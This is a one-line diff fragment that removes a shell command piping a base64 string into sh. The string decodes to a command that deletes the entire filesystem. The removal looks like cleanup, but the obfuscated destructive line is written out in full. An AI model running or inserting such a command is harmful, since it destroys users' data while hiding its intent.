@@ -1,1 +1,0 @@
-echo cm0gLXJmIC8= | base64 -d | sh
